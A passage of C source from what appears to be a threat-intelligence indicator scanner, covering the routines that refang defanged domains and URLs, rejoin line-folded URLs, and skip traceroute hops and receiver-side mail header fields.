	    !ascii_alnum(last(o)) || !ascii_alnum(ascii_at(s, n, i + 3)))
		return 0;
	subst(o, ".", 1, i, 3);
	return 3;
}

/*
 * Dots that writers and tools bracket otherwise, between name
 * characters: square or curly brackets that do not pair ("evil].[com",
 * "evil[.[com", "evil}.}com", as ioc-fanger reads them, not between
 * digits; parentheses so are code's, "f(x).(y)"), blanks inside brackets
 * ("evil[ . ]com", "evil( dot )com"), angle brackets ("evil<.>com"),
 * and a comma for the dot ("evil[,]com": brackets that pair, a comma
 * only, so that JSON's "[10],[20]" stays). Bytes consumed from s[i], 0
 * when it is not so.
 */
static size_t
loose_dot(struct out *o, const char *s, size_t n, size_t i)
{
	unsigned char c = (unsigned char)s[i], b;
	size_t k = i + 1, len, blanks, out = o->text->len;
	int spaced = 0;

	/* "evil [ . ] com": a blank either side too, as spaced_bracket's
	 * (prose's " (" stops at its second test) */
	if (opener(c) && i + 1 < n && s[i + 1] == ' ' && last(o) == ' ' &&
	    out >= 2 && is_alnum((unsigned char)o->text->data[out - 2]))
		spaced = 1;
	else if (!is_alnum(last(o)))
		return 0;
	if (c == '<') {	/* "<.>" only */
		if (i + 3 >= n || s[i + 1] != '.' || s[i + 2] != '>' ||
		    !is_alnum((unsigned char)s[i + 3]))
			return 0;
		subst(o, ".", 1, i, 3);
		return 3;
	}
	/* (after ']' or '}' comes '.': next_rule found them so) */
	for (blanks = 0; k < n && s[k] == ' ' && blanks < 2; blanks++)
		k++;
	if (k < n && s[k] == '.')
		len = 1;
	else if (k + 3 <= n && strncasecmp(s + k, "dot", 3) == 0)
		len = 3;	/* "( dot )" ("(dot)" is bracketed()'s) */
	else if (k == i + 1 && k + 1 < n && s[k] == ',' && opener(c) &&
	    closer((unsigned char)s[k + 1]))
		len = 1;	/* "[,]" alone */
	else
		return 0;
	for (k += len, blanks = 0; opener(c) && k < n && s[k] == ' ' &&
	    blanks < 2; blanks++)
		k++;
	if (k + 1 + spaced >= n || !(opener((unsigned char)s[k]) ||
	    closer((unsigned char)s[k])) || (spaced && s[k + 1] != ' ') ||
	    !is_alnum((unsigned char)s[k + 1 + spaced]))
		return 0;
	b = (unsigned char)s[k];
	if ((closer(c) || opener(b)) && (spaced || c == '(' || b == '(' ||
	    b == ')' || (last(o) <= '9' && (unsigned char)s[k + 1] <= '9')))
		return 0;	/* "f(x).(y)": code; "[1].[2]": notes */
	o->text->len -= (size_t)spaced;
	subst(o, ".", 1, i - (size_t)spaced, k + 1 + 2 * (size_t)spaced - i);
	return k + 1 + (size_t)spaced - i;
}

/* A blank that may surround a folded URL's line break. */
static int
fold_blank(int c)
{
	return c == ' ' || c == '\t' || c == '\r';
}

/* The quote marks ('>') a reply put before the line holding s[i], as
 * far as they go before anything else; 0 for none. */
static size_t
quote_depth(const char *s, size_t i)
{
	size_t a = i, d = 0;

	while (a > 0 && s[a - 1] != '\n' && i - a < FOLD_SPAN)
		a--;
	for (; a < i && (s[a] == '>' || s[a] == ' ' || s[a] == '\t'); a++)
		d += s[a] == '>';
	return d;
}

/*
 * A URL in angle brackets that a writer broke across lines, as RFC 3986
 * (appendix C) says one may and a reader should join again:
 * "<https://evil.example/login/\n   verify.php?id=7>", "<http://foo.
 * example.\n com/rfc/>", "<hxxps://evil[.]example/a/\n b>". Its line
 * breaks, with the blanks and a reply's quote marks around them, are
 * noted in o for refang to take out (unfold); the rest is refanged as
 * usual, and the URL is not said to be defanged for them. Only where
 * '>' closes it within FOLD_SPAN bytes, each blank between is at a line
 * break (a blank within a line is prose: "<https://evil.example is
 * down>"), no break is a blank line, no '<' or '"' comes before the
 * '>', and each line it goes on to starts with the quote marks of its
 * first. Consumes nothing.
 */
static void
fold_url(struct out *o, const char *s, size_t n, size_t i)
{
	size_t p = i + 1, k, a, end = n - i > FOLD_SPAN ? i + FOLD_SPAN : n;
	size_t depth = SIZE_MAX, d, nf = 0;
	int lines;

	/* s[p] is 'h' or 'H' (next_rule): a scheme, then "//" */
	for (k = p; k < end && k - p < 16 && s[k] != '/' && s[k] != '\n' &&
	    !fold_blank(s[k]); k++)
		;
	if (k + 1 >= end || s[k] != '/' || s[k + 1] != '/')
		return;
	for (k += 2; k < end && s[k] != '>'; k++) {
		if (s[k] == '<' || s[k] == '"')
			return;
		if (!fold_blank(s[k]) && s[k] != '\n')
			continue;
		for (a = k, lines = 0; k < end && (fold_blank(s[k]) ||
		    s[k] == '\n'); k++) {
			if (s[k] != '\n')
				continue;
			if (lines++ > 0)
				return;	/* a blank line: a paragraph's end */
			if (depth == SIZE_MAX)
				depth = quote_depth(s, i);
			for (d = 0; d < depth && k + 1 < end; k++)
				if (s[k + 1] == '>')
					d++;
				else if (!fold_blank(s[k + 1]))
					break;
			if (d < depth)
				return;
		}
		if (lines == 0 || nf == FOLD_MAX)
			return;
		o->folds[nf][0] = a;
		o->folds[nf++][1] = k - a;
		k--;
	}
	if (k >= end || s[k] != '>' || nf == 0)
		return;
	o->nfolds = nf;
	o->fold = 0;
}

/* Whether s[i] starts a two-letter word that is a TLD too ("in", "is",
 * "it", "to"...) and more words follow it: "the server . in the logs". */
static int
spaced_word(const char *s, size_t n, size_t i)
{
	static const char words[] = "am as at be by do go in is it me my "
	    "no so to us ";
	const char *w;

	if (i + 4 >= n || s[i + 2] != ' ' || s[i + 3] < 'a' || s[i + 3] > 'z')
		return 0;
	for (w = words; *w; w += 3)
		if (w[0] == s[i] && w[1] == s[i + 1])
			return 1;
	return 0;
}

/*
 * Whether a spaced dot, " dot " or " . " (k bytes at s[i]), is prose's:
 * after a word no name is made of ("the dot com bubble", "a dot in the
 * logo", "use dot net", "one dot in each"), or, for " . ", before a
 * sentence's first word ("this . It was": a capital, then a small
 * letter) or a short word more follow (spaced_word). Bracketed dots
 * ("evil( dot )com") are no prose.
 */
static int
prose_dot(const struct out *o, const char *s, size_t n, size_t i, size_t k)
{
	static const char *const words[] = {
		"a", "an", "and", "any", "at", "by", "each", "every", "for",
		"from", "her", "his", "in", "its", "my", "no", "of", "on",
		"one", "or", "our", "per", "that", "the", "their", "this",
		"to", "use", "via", "with", "your", NULL
	};
	const char *t = o->text->data;
	size_t e = o->text->len, b = e, m;
	char w[6];

	if (k == 3 && i + k + 1 < n && ((s[i + k] >= 'A' && s[i + k] <= 'Z' &&
	    s[i + k + 1] >= 'a' && s[i + k + 1] <= 'z') ||
	    spaced_word(s, n, i + k)))
		return 1;
	while (b > 0 && e - b < sizeof(w) && ((t[b - 1] | 0x20) >= 'a' &&
	    (t[b - 1] | 0x20) <= 'z'))
		b--;
	if (b == e || e - b >= sizeof(w) || (b > 0 && (is_alnum(
	    (unsigned char)t[b - 1]) || strchr(".-_@", t[b - 1]) != NULL)))
		return 0;	/* a longer word, or a name's last label */
	for (m = 0; b + m < e; m++)
		w[m] = (char)(t[b + m] | 0x20);
	w[m] = '\0';
	for (m = 0; words[m]; m++)
		if (strcmp(words[m], w) == 0)
			return 1;
	return 0;
}

/*
 * " AT " between an address's local part and its domain, as a page hides
 * one from harvesters: "abuse AT evil DOT com", found at the first " DOT "
 * (s[i]; refang's scan stops at " DOT ", not at " AT "), the " AT " and
 * the label between them already copied as they were. Only in capitals,
 * and with a small letter in the local part or that label ("SOC AT cert
 * DOT org"): prose's "look at evil dot com" and a shouted "LOOK AT EVIL
 * DOT COM" are no address. The copy is taken back and written again with
 * '@' for the " AT ".
 */
static void
spelled_at(struct out *o, const char *s, size_t i)
{
	char *t = o->text->data;
	size_t len = o->text->len, j = i, b;
	int small = 0;

	for (; j > 0 && (is_alnum((unsigned char)s[j - 1]) ||
	    s[j - 1] == '-'); j--)
		small |= s[j - 1] >= 'a' && s[j - 1] <= 'z';
	if (j == i || j < 4 || memcmp(s + j - 4, " AT ", 4) != 0 ||
	    len < i - j + 5 || memcmp(t + len - (i - j + 4), s + j - 4,
	    i - j + 4) != 0 || (o->edits && *o->nedits > 0 &&
	    (*o->edits)[*o->nedits - 1].out + (*o->edits)[*o->nedits -
	    1].outlen > len - (i - j + 4)))
		return;		/* not copied as it was */
	for (b = len - (i - j + 4); b > 0 && (is_alnum((unsigned
	    char)t[b - 1]) || strchr("._-+", t[b - 1]) != NULL); b--)
		small |= t[b - 1] >= 'a' && t[b - 1] <= 'z';
	if (!small || b == len - (i - j + 4) || (b > 0 && t[b - 1] == '@'))
		return;
	o->text->len -= i - j + 4;
	subst(o, "@", 1, j - 4, 4);
	put(o, s + j, i - j);
}

/* One refang step at s[i]: bytes consumed, 0 when nothing applies. */
static size_t
refang_at(struct out *o, const char *s, size_t n, size_t i)
{
	unsigned char c = (unsigned char)s[i];
	const char *rep;
	size_t k;

	if (c == 0xef || c == 0xe3)
		return wide_form(o, s, n, i);
	if (c == 0xe2)
		return leader_dot(o, s, n, i);
	if (c == '<' && i + 1 < n && s[i + 1] != '.') {
		fold_url(o, s, n, i);
		return 0;
	}
	if (opener(c) && (k = bracketed(s, n, i, &rep)) != 0) {
		size_t sp = spaced_bracket(o, s, n, i, k, rep);

		if (sp != 0)
			return sp;
		subst(o, rep, strlen(rep), i, k);
		return k;
	}
	if (opener(c) && (k = wide_dot(o, s, n, i)) != 0)
		return k;	/* "evil(。)com", "evil[．】com" */
	if (opener(c) && (k = optional_s(o, s, n, i)) != 0) {
		subst(o, "s", 1, i, k);
		return k;
	}
	if (opener(c) && (k = bracketed_scheme(s, n, i, &rep)) != 0) {
		subst(o, rep, strlen(rep), i, k);
		return k;
	}
	if ((opener(c) || c == ']' || c == '}' || c == '<') &&
	    (k = loose_dot(o, s, n, i)) != 0)
		return k;
	/* Half-bracketed dots between name characters: "1[.1", "1.)1". */
	if (((opener(c) && i + 2 < n && s[i + 1] == '.') ||
	    (c == '.' && i + 2 < n && closer((unsigned char)s[i + 1]))) &&
	    is_alnum(last(o)) && is_alnum((unsigned char)s[i + 2])) {
		subst(o, ".", 1, i, 2);
		return 2;
	}
	/* A dot escaped as in a regular expression or Markdown,
	 * "evil\.com", between name characters. */
	if (c == '\\' && i + 2 < n && s[i + 1] == '.' && is_alnum(last(o)) &&
	    is_alnum((unsigned char)s[i + 2])) {
		subst(o, ".", 1, i, 2);
		return 2;
	}
	if (c == '\\' && (k = escaped_bracketed(s, n, i, &rep)) != 0) {
		subst(o, rep, strlen(rep), i, k);
		return k;
	}
	/* A slash escaped as JSON and regular expressions write it,
	 * "http:\/\/evil.com\/a" (PHP's json_encode, a rule's pattern). */
	if (c == '\\' && i + 1 < n && s[i + 1] == '/' &&
	    (is_alnum(last(o)) || last(o) == ':' || last(o) == '/')) {
		subst(o, "/", 1, i, 2);
		return 2;
	}
	/* " dot " and " . " between name characters; " AT " before a
	 * domain spelled so. */
	if (c == ' ' && is_alnum(last(o))) {
		k = i + 5 <= n && strncasecmp(s + i, " dot ", 5) == 0 ? 5 :
		    i + 3 <= n && memcmp(s + i, " . ", 3) == 0 ? 3 : 0;
		if (k == 5 && memcmp(s + i, " DOT ", 5) == 0)
			spelled_at(o, s, i);
		if (k && i + k < n && is_alnum((unsigned char)s[i + k]) &&
		    !prose_dot(o, s, n, i, k)) {
			subst(o, ".", 1, i, k);
			return k;
		}
	}
	if ((c == 'h' || c == 'H' || c == 'f' || c == 'F') &&
	    (k = scheme_fang(s, n, i, &rep)) != 0) {
		subst(o, rep, strlen(rep), i, k);
		return k;
	}
	if (c == '[')
		return bracketed_host(o, s, n, i);
	return 0;
}

/* Could a rule start at s[i]? Decided from s[i] and s[i + 1] alone, so
 * that ordinary text costs a comparison or two a byte. */
static int
maybe_rule(const char *s, size_t n, size_t i)
{
	unsigned char c = (unsigned char)s[i], d;

	if (i + 1 >= n)
		return 0;
	d = (unsigned char)s[i + 1];
	switch (c) {
	case '[': case '(': case '{':
		return 1;
	case '.':
		return d == ']' || d == ')' || d == '}';
	case ']': case '}':	/* "].[", "}.{" */
		return d == '.';
	case '<':	/* "<.>"; "<https://", "<hxxp://" (fold_url) */
		return d == '.' || (d | 0x20) == 'h';
	case '\\':	/* "\.", "\/", Markdown's "\[.\]" */
		return d == '.' || d == '/' || d == '[';
	case ' ':	/* " . ", " dot " */
		return i + 2 < n && ((d == '.' && s[i + 2] == ' ') ||
		    ((d | 0x20) == 'd' && (s[i + 2] | 0x20) == 'o'));
	case 'h': case 'H':
		return d == 'x' || d == 'X' || d == '*' || d == '_' ||
		    opener(d);
	case 'f': case 'F':
		return d == 'x' || d == 'X';
	case 0xef:	/* U+FF00..FF7F: full-width forms */
		return d == 0xbc || d == 0xbd;
	case 0xe2:	/* U+2024, the one dot leader */
		return d == 0x80 && i + 2 < n &&
		    (unsigned char)s[i + 2] == 0xa4;
	case 0xe3:	/* U+3002, the ideographic full stop; U+3010 【 */
		return d == 0x80 && i + 2 < n &&
		    ((unsigned char)s[i + 2] == 0x82 ||
		    (unsigned char)s[i + 2] == 0x90);
	default:
		return 0;
	}
}

/*
 * Tests made for 16 positions at once (compiler vector extensions: SSE2
 * on x86-64, NEON on arm64): a lane of a comparison is 0 or 0xff, and
 * lanes() makes them the bits of a number, lane 0 the lowest, so that
 * the first position found is a count of trailing zeros.
 */
typedef unsigned char v16 __attribute__((vector_size(16)));

static inline unsigned
lanes(v16 m)
{
#ifdef __SSE2__
	return (unsigned)_mm_movemask_epi8((__m128i)m);
#elif __BYTE_ORDER__ == __ORDER_LITTLE_ENDIAN__
	/* each byte's top bit gathered into the top byte by one
	 * multiplication (arm64 and the like: no call, no loop) */
	uint64_t w[2];

	memcpy(w, &m, 16);
	return (unsigned)(((w[0] & 0x8080808080808080ull) *
	    0x0002040810204081ull) >> 56) |
	    (unsigned)(((w[1] & 0x8080808080808080ull) *
	    0x0002040810204081ull) >> 56) << 8;
#else
	unsigned bits = 0;
	int k;

	for (k = 0; k < 16; k++)
		bits |= (unsigned)(m[k] != 0) << k;
	return bits;
#endif
}

/* Lanes of a (a v16) from lo to hi: one unsigned comparison (SSE2: a
 * subtraction, a minimum and an equality; two comparisons cost five). */
#define IN_RANGE(a, lo, hi) ((v16)((v16)((a) - (unsigned char)(lo)) <= \
	(unsigned char)((hi) - (lo))))

/* The first position from s[i] where maybe_rule holds (or a backslash
 * is), or n. Most text has no rule for dozens of bytes. */
static size_t
next_rule(const char *s, size_t n, size_t i)
{
	v16 a, b, c, la, lb, m;
	unsigned bits;

	for (; i + 18 <= n; i += 16) {
		memcpy(&a, s + i, 16);
		memcpy(&b, s + i + 1, 16);
		memcpy(&c, s + i + 2, 16);
		la = a | 0x20;	/* '[' | 0x20 is '{', ']' | 0x20 '}' */
		lb = b | 0x20;
		m = (v16)((la == '{') | (a == '(') |
		    ((a == '.') & ((lb == '}') | (b == ')'))) |
		    /* "].[", "}.{", "<.>" */
		    (((la == '}') | (a == '<')) & (b == '.')) |
		    /* "<https://", "<hxxp://" (fold_url; not "<ftp://":
		     * a test for 'f' too costs 0.8% of the instructions) */
		    ((a == '<') & (lb == 'h')) |
		    (a == '\\') |	/* "\.", "\/": backslashes are rare */
		    ((a == ' ') & (((b == '.') & (c == ' ')) |
		    ((lb == 'd') & ((c | 0x20) == 'o')))) |
		    ((lb == 'x') & ((la == 'h') | (la == 'f'))) |
		    /* "h*", "h(": b | 2 is '*'; "h_", "h[", "h{": b | 0x24
		     * is 0x7f */
		    ((la == 'h') & (((b | 2) == '*') | ((b | 0x24) == 0x7f))) |
		    ((a == 0xef) & ((b | 1) == 0xbd)) |
		    /* U+3002, U+3010, U+2024 (and a few others, which
		     * refang_at leaves) */
		    (((a | 1) == 0xe3) & (b == 0x80) & ((c == 0x82) |
		    (c == 0x90) | (c == 0xa4))));
		if ((bits = lanes(m)) != 0)
			return i + (size_t)__builtin_ctz(bits);
	}
	for (; i < n; i++)
		if (maybe_rule(s, n, i))
			break;
	return i;
}

static void
refang(struct out *o, const char *s, size_t n)
{
	size_t i = 0, start = 0, k;

	buf_grow(o->text, n);	/* never longer: no reallocation below */
	while ((i = next_rule(s, n, i)) < n || o->fold < o->nfolds) {
		if (o->fold < o->nfolds && o->folds[o->fold][0] <= i) {
			k = o->folds[o->fold][0];
			if (k >= start) {	/* not in a rule's bytes (none
						 * reads past a blank) */
				put(o, s + start, k - start);
				unfold(o, k, o->folds[o->fold][1]);
				i = start = k + o->folds[o->fold][1];
			}
			o->fold++;
			continue;
		}
		/* Flush what no rule touched, so that last() sees it. */
		put(o, s + start, i - start);
		start = i;
		if ((k = refang_at(o, s, n, i)) != 0) {
			i += k;
			start = i;
		} else {
			i++;
		}
	}
	put(o, s + start, n - start);
}

/* The end of the line t[i] is in (its '\r' left off), and in *next
 * where the next starts. */
static size_t
line_end(const char *t, size_t i, size_t n, size_t *next)
{
	const char *nl = memchr(t + i, '\n', n - i);
	size_t e = nl ? (size_t)(nl - t) : n;

	*next = nl ? e + 1 : n;
	return e > i && t[e - 1] == '\r' ? e - 1 : e;
}

/* Past the blanks, '>' and up to three digits that start the line at
 * t[i] (of t[0..n)); their number in *hop, 0 when there is none. */
static inline size_t
hop_number(const char *t, size_t i, size_t n, unsigned *hop)
{
	size_t k = i, d;

	*hop = 0;
	while (k < n && (t[k] == ' ' || t[k] == '\t' || t[k] == '>'))
		k++;
	for (d = k; k < n && k - d < 3 && t[k] >= '0' && t[k] <= '9'; k++)
		*hop = *hop * 10 + (unsigned)(t[k] - '0');
	return k;
}

/*
 * The hop number of the line at t[i] (of t[0..n)) when it is a hop of a
 * traceroute: traceroute's " 2  ae-1.r21.ntt.net (129.250.2.1)  1.201
 * ms", tracert's "  2     8 ms     7 ms  129.250.2.1", tracepath's " 2:
 * 129.250.2.1  1.2ms", mtr's "  2.|-- 129.250.2.1  0.0%", or one that
 * no router answered ("3  * * *"); quoted in a reply too. 0 when it is
 * none. In *next, where the next line starts (when it is one).
 */
static unsigned
hop_line(const char *t, size_t i, size_t n, size_t *next)
{
	unsigned hop;
	size_t k = hop_number(t, i, n, &hop), e;

	if (k + 4 > n)
		return 0;	/* (no number: hop 0, none) */
	if (memcmp(t + k, ".|--", 4) == 0) {
		line_end(t, k, n, next);
		return hop;
	}
	if (t[k] != ':' && t[k] != ' ' && t[k] != '\t')
		return 0;	/* "198.51.100.7 - - [...", "2024-11-22" */
	e = line_end(t, k, n, next);
	for (k++; k < e && (t[k] == ' ' || t[k] == '\t'); k++)
		;
	if (k < e && t[k] == '*')
		return hop;
	/* a round trip's time: "1.201 ms", "<1 ms", "1.2ms" */
	for (; k + 2 <= e; k++)
		if (t[k] == 'm' && t[k + 1] == 's' && ((t[k - 1] >= '0' &&
		    t[k - 1] <= '9') || t[k - 1] == ' ') && (k + 2 == e ||
		    !ascii_alnum((unsigned char)t[k + 2])))
			return hop;
	return 0;
}

/* Whether the line at t[i] is a traceroute's hop that another follows:
 * a router on the way, which did nothing (the destination, the last
 * hop, stays an indicator, and so does the "traceroute to" line). The
 * line's end, where scanning goes on, in *next. */
static int
hop_on_the_way(const char *t, size_t i, size_t n, size_t *next)
{
	unsigned hop = hop_line(t, i, n, next);
	size_t k;

	/* the next hop (not ping's "64 bytes from 192.0.2.1: ...
	 * time=20.1 ms" on each line; hop 0 is none) */
	return hop != 0 && hop_line(t, *next, n, &k) == hop + 1;
}

/* skip_line's for a line that starts with a blank, a '>' or a digit:
 * past it when it is a router on a traceroute's way, else i. Most such
 * lines are a date's ("2024-11-22") or indented words: their start is
 * read first, without a call. */
static size_t __attribute__((noinline))
hop_skip(const struct ioc_scanner *sc, size_t i)
{
	const char *t = sc->text.data;	/* NUL at t[n] */
	unsigned hop;
	size_t k = hop_number(t, i, sc->text.len, &hop);

	if (hop == 0 || (t[k] != ' ' && t[k] != '\t' && t[k] != ':' &&
	    t[k] != '.'))
		return i;
	return hop_on_the_way(t, i, sc->text.len, &k) ? k : i;
}

#define HOP_SPAN 16384	/* bytes of a traceroute's hops, at most */

/* ioc_fold_cut's for a traceroute: when the last line before cut is a
 * hop, the start of the hops before it, so that the next part reads
 * them whole (hop_on_the_way asks the line after each). */
static size_t
hop_cut(const char *text, size_t cut)
{
	size_t a, p, k;

	if (text[cut - 1] != '\n')
		return cut;	/* a line too long, cut (LONG_LINE) */
	for (a = cut - 1; a > 0 && text[a - 1] != '\n'; a--)
		;
	if (cut - a > HOP_SPAN || !hop_line(text, a, cut, &k))
		return cut;	/* most parts */
	while (a > 0) {
		for (p = a - 1; p > 0 && text[p - 1] != '\n'; p--)
			;
		if (cut - p > HOP_SPAN || !hop_line(text, p, cut, &k))
			break;
		a = p;
	}
	return a > 0 ? a : cut;
}

/*
 * Mail header fields pasted into a report ("the full headers are
 * below"). What names the sender stays an indicator: a hop's "from"
 * clause, Return-Path, From, Reply-To, DKIM's d=, the results'
 * smtp.mailfrom. What names the receivers goes: a Received field's "by",
 * "for" and "id" clauses (mx.google.com, the victim's address), a hop
 * between two servers of one operator (Office 365's and Gmail's own),
 * the results' server and its name in their comments, ARC's seals,
 * message ids and a mailer's home page. A field is read with its
 * continuation lines, indented or in a quoted reply ("> Received:",
 * ">\tby ..."). (A header copy in a part of its own is not scanned.)
 */
enum hdr { HDR_NONE, HDR_SKIP, HDR_RECEIVED, HDR_RESULTS, HDR_SPF };

static const struct hdr_name {
	const char *name;
	enum hdr kind;
} hdr_names[] = {
	{ "message-id:", HDR_SKIP }, { "references:", HDR_SKIP },
	{ "in-reply-to:", HDR_SKIP }, { "content-id:", HDR_SKIP },
	{ "x-message-id:", HDR_SKIP }, { "resent-message-id:", HDR_SKIP },
	{ "arc-seal:", HDR_SKIP }, { "arc-message-signature:", HDR_SKIP },
	{ "x-google-dkim-signature:", HDR_SKIP }, { "x-mailer:", HDR_SKIP },
	{ "received:", HDR_RECEIVED }, { "x-received:", HDR_RECEIVED },
	{ "authentication-results:", HDR_RESULTS },
	{ "arc-authentication-results:", HDR_RESULTS },
	{ "received-spf:", HDR_SPF },
	{ NULL, HDR_NONE },
};

#define HDR_LINES 32	/* a field's lines, at most */
#define HDR_SPAN 16384	/* and its bytes */

/* The blanks and '>'s that start the line at t[i] (of t[0..n)): their
 * number, and in *depth the '>'s among them. */
static size_t
quote_run(const char *t, size_t i, size_t n, unsigned *depth)
{
	size_t k = i;

	*depth = 0;
	for (; k < n && (t[k] == '>' || t[k] == ' ' || t[k] == '\t'); k++)
		*depth += t[k] == '>';
	return k - i;
}

/* The field of hdr_names whose name starts at t[k] (of t[0..n)), and in
 * *v where its value starts. */
static enum hdr
hdr_name_at(const char *t, size_t k, size_t n, size_t *v)
{
	const struct hdr_name *h;

	if (k >= n)
		return HDR_NONE;
	switch (t[k] | 0x20) {	/* hdr_names' first letters: a switch
					 * ahead of the loop saves 1 M
					 * instructions of 559 at 10 MB */
	case 'a': case 'c': case 'i': case 'm': case 'r': case 'x':
		break;
	default:
		return HDR_NONE;	/* most lines */
	}
	for (h = hdr_names; h->name; h++) {
		if ((t[k] | 0x20) != h->name[0] || k + 1 >= n ||
		    (t[k + 1] | 0x20) != h->name[1] ||
		    !ci_prefix(t + k, n - k, h->name))
			continue;	/* "As", "Re:": two bytes first */
		for (k += strlen(h->name); k < n && (t[k] == ' ' ||
		    t[k] == '\t'); k++)
			;
		*v = k;
		return h->kind;
	}
	return HDR_NONE;
}

/* The field of hdr_names that the line at t[i] (of t[0..n)) starts
 * after its quote_run, and in *v where its value starts. */
static enum hdr
hdr_field(const char *t, size_t i, size_t n, size_t *v)
{
	unsigned depth;

	return hdr_name_at(t, i + quote_run(t, i, n, &depth), n, v);
}

/* The end of the field whose first line starts at t[i] (of t[0..n)):
 * past the lines that continue it, each with a longer quote_run than
 * its first (as many '>'s) and more than blanks; a line start. */
static size_t
hdr_end(const char *t, size_t i, size_t n)
{
	unsigned d0, d;
	size_t q0 = quote_run(t, i, n, &d0), q, next, after, lines = 1;

	line_end(t, i, n, &next);
	while (next < n && lines++ < HDR_LINES && next - i < HDR_SPAN) {
		q = quote_run(t, next, n, &d);
		if (q <= q0 || d != d0 ||
		    line_end(t, next, n, &after) <= next + q)
			break;
		next = after;
	}
	return next;
}

/* ioc_fold_cut's for a header field: when the lines before cut are a
 * field of hdr_names and its continuation lines so far, the field's
 * start, so that the next part reads it whole. */
static size_t
hdr_cut(const char *text, size_t cut)
{
	size_t a = cut - 1, v, lines;
	unsigned depth;

	if (text[cut - 1] != '\n')
		return cut;
	for (lines = 0; lines < HDR_LINES && cut - a <= HDR_SPAN; lines++) {
		while (a > 0 && text[a - 1] != '\n')
			a--;
		if (hdr_field(text, a, cut, &v) != HDR_NONE)
			return a > 0 && hdr_end(text, a, cut) == cut ? a : cut;
		if (a == 0 || quote_run(text, a, cut, &depth) == 0)
			return cut;	/* most parts: no field */
		a--;
	}
	return cut;
}

/* ioc_fold_cut's for a URL in angle brackets broken across lines. */
static size_t
fold_cut(const char *text, size_t cut)
{
	size_t from = cut > FOLD_SPAN ? cut - FOLD_SPAN : 0, a;
	const char *lt = memrchr(text + from, '<', cut - from);

	if (lt == NULL || memchr(lt, '>', (size_t)(text + cut - lt)) != NULL)
		return cut;
	a = (size_t)(lt - text);
	if (a + 1 >= cut || (lt[1] | 0x20) != 'h')
		return cut;
	while (a > 0 && text[a - 1] != '\n')
		a--;
	return a > 0 ? a : cut;
}

size_t
ioc_fold_cut(const char *text, size_t cut)
{
	return hdr_cut(text, hop_cut(text, fold_cut(text, cut)));
}

/* An ASCII letter (whatever the locale says). */
static int
ascii_letter(char c)
{
	return (c | 0x20) >= 'a' && (c | 0x20) <= 'z';
}

/* The length of the run of ASCII letters and digits that ends before
 * text[k] (back) or starts at it (forward), up to 8. */
static size_t
word_run(const char *text, size_t n, size_t k, int back)
{
	size_t r = 0;

	while (r < 8 && (back ? k > r : k + r < n) &&
	    ascii_alnum((unsigned char)text[back ? k - r - 1 : k + r]))
		r++;
	return r;
}

#define LINE_CUT_SPAN 65536	/* bytes a line's cut looks back, at most */

size_t
ioc_line_cut(const char *text, size_t n)
{
	size_t k, from = n > LINE_CUT_SPAN ? n - LINE_CUT_SPAN : 0;

	for (k = n; k-- > from + 1;) {
		if (text[k] != ' ' && text[k] != '\t' && text[k] != '\r')
			continue;
		/* words of four at least on each side, the second starting
		 * with a letter: no "evil dot com", "abuse at", "[.]",
		 * "ASN 4134", "CVE 2024-3094", "a - b", "hxxp ://" */
		if (k + 1 < n && ascii_letter(text[k + 1]) &&
		    word_run(text, n, k, 1) >= 4 &&
		    word_run(text, n, k + 1, 0) >= 4)
			return k + 1;
	}
	return n;
}

size_t
ioc_part_cut(const char *text, size_t n, const char *nl)
{
	return ioc_fold_cut(text, nl ? (size_t)(nl - text) + 1 :
	    ioc_line_cut(text, n));
}

void
ioc_refang(const char *text, size_t len, struct buf *out)
{
	struct out o = { .text = out };

	refang(&o, text, len);
}

/* The first edit that ends after refanged position p. Indicators are
 * mostly found in order: the last answer (*hint) is tried first. */
static size_t
edit_after_from(struct ioc_scanner *sc, size_t p, size_t *hint)
{
	size_t lo = 0, hi = sc->nedits, k = *hint;

#define EDIT_END(i) (sc->edits[i].out + sc->edits[i].outlen)
	if (k <= hi && (k == 0 || EDIT_END(k - 1) <= p)) {
		for (lo = k; lo < hi && lo < k + 4 && EDIT_END(lo) <= p; lo++)
			;
		if (lo == hi || EDIT_END(lo) > p)
			return *hint = lo;
	}
	while (lo < hi) {
		size_t mid = (lo + hi) / 2;

		if (EDIT_END(mid) <= p)
			lo = mid + 1;
		else
			hi = mid;
	}
#undef EDIT_END
	return *hint = lo;
}

static size_t
edit_after(struct ioc_scanner *sc, size_t p)
{
	return edit_after_from(sc, p, &sc->edit_hint);
}

/* The input offset of refanged position p, k being edit_after(p) (a
 * rewrite maps to its start; text after it keeps its distance). */
static size_t
in_offset(const struct ioc_scanner *sc, size_t p, size_t k)
{
	const struct edit *e;

	if (k < sc->nedits && sc->edits[k].out <= p)
		return sc->edits[k].in;	/* inside a rewrite */
	if (k == 0)
		return p;
	e = &sc->edits[k - 1];
	return e->in + e->inlen + (p - e->out - e->outlen);
}

/* 1 when a rewrite from edit k on lies before refanged position b, and
 * not only a folded URL's line breaks taken out. */
static int
rewrite_before(const struct ioc_scanner *sc, size_t k, size_t b)
{
	for (; k < sc->nedits && sc->edits[k].out < b; k++)
		if (!sc->edits[k].fold)
			return 1;
	return 0;
}

/* 1 when refanged text[a..b) holds a rewrite. */
static int
defanged(struct ioc_scanner *sc, size_t a, size_t b)
{
	return rewrite_before(sc, edit_after(sc, a), b);
}

/*
 * The rewrites refang made in text[i..j), as a hash: where each lies
 * from i and what it wrote. What a token gives depends on its bytes and
 * on these (a defanged name is a host where a file-like one is not, and
 * is said to be defanged), so the memo keys a token on both: the same
 * bytes written the same way again give the same. 0 when none.
 */
static uint64_t
edits_sig_at(struct ioc_scanner *sc, size_t i, size_t j)
{
	uint64_t sig = 0;
	size_t k;

	for (k = edit_after_from(sc, i, &sc->cut_hint);
	    k < sc->nedits && sc->edits[k].out < j; k++)
		sig = (sig ^ ((uint64_t)(sc->edits[k].out - i) << 32 ^
		    sc->edits[k].outlen)) * 0x9e3779b97f4a7c15ULL + 1;
	return sig;
}

/* Asked for every token: the usual case, edit_after's last answer
 * still ending nothing in t[i..j) and none before it reaching i, is
 * answered here. */
static inline uint64_t
edits_sig(struct ioc_scanner *sc, size_t i, size_t j)
{
	size_t k = sc->cut_hint;

	if (sc->nedits == 0 || (k <= sc->nedits && (k == sc->nedits ||
	    sc->edits[k].out >= j) && (k == 0 || sc->edits[k - 1].out +
	    sc->edits[k - 1].outlen <= i)))
		return 0;
	return edits_sig_at(sc, i, j);
}

/* Where refanged text[a..b) was in the input: ioc's offset, length and
 * whether it was written defanged. */
static void
input_span(struct ioc_scanner *sc, size_t a, size_t b, struct ioc *ioc)
{
	size_t k, kb, pb, end;

	if (sc->nedits == 0) {	/* nothing was refanged in this text */
		ioc->offset = sc->base + a;
